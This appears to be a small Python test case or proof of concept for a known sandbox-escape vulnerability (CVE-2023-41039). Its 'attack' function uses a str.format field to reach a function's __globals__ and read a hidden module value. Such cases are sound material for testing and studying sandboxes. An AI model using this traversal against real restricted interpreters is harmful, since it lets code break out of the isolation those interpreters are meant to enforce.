# `str.format` names attributes and items in its text.
# after: interpreter
# source: CVE-2023-41039 (GHSA-xjw2-6jm9-rf67)
import json
def attack(**_):
    return {"text": "{0.__globals__[__file__]}".format(json.loads)}
